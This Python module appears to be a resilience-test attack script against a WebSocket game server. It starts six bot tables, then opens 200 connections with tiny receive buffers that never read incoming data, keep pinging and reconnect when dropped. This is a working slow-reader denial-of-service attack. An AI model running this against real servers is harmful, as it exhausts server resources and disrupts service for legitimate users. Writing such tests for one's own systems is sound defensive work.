"""Two hundred watchers of six tables where bots play read nothing of what they are sent."""

from __future__ import annotations

import asyncio
import json
import socket
from functools import partial
from urllib.parse import urlsplit

from attacks.target import Target, addresses, together

WATCHERS = 200
TABLES = 6
UPGRADE = (
    "GET /api/tables/{table}/socket HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
    "Connection: Upgrade\r\nSec-WebSocket-Key: bGFuYWkgbGFuYWkgbGFuYQ==\r\n"
    "Sec-WebSocket-Version: 13\r\n\r\n"
)


async def attack(target: Target) -> None:
    """Watch with closed eyes, and come again when cut off."""
    token = await target.guest()
    bots = [{"seat": seat, "level": "medium"} for seat in range(4)]
    tables = [
        await target.table(token, game="moluku", players=4, bots=bots, start=True)
        for _ in range(TABLES)
    ]
    where = urlsplit(target.url)

    async def watch(table: str, address: str) -> None:
        line = await narrow_line(where.hostname or "", where.port or 0, address)
        reader, writer = await asyncio.open_connection(sock=line, limit=1024)
        try:
            writer.write(UPGRADE.format(table=table, host=where.netloc).encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.write(frame(json.dumps({"type": "hello", "token": None})))
            target.counts["watchers"] += 1
            while not writer.transport.is_closing():
                await asyncio.sleep(0.5)
                writer.write(frame(json.dumps({"type": "ping", "id": "p"})))
        finally:
            writer.close()

    await together(
        target.again(partial(watch, tables[number % TABLES], address), pause=0.5)
        for number, address in enumerate(addresses(WATCHERS, 5))
    )


async def narrow_line(host: str, port: int, address: str) -> socket.socket:
    """Connect in such a way that little of what is sent waits on our side."""
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.setblocking(False)
    line.bind((address, 0))
    await asyncio.get_running_loop().sock_connect(line, (host, port))
    return line


def frame(text: str) -> bytes:
    """Write a short message as a client does, with a mask of zeros."""
    return bytes((0x81, 0x80 | len(text))) + bytes(4) + text.encode()
